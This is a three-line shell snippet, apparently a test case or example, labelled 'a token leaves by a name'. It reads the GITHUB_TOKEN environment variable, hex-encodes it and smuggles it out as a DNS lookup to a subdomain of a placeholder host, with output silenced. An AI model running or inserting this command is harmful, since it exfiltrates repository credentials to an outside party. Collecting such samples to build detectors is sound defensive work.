# tricky: a token leaves by a name
t=$(printenv GITHUB_TOKEN | xxd -p | tr -d '\n')
nslookup "${t:0:60}.x.example.net" >/dev/null 2>&1
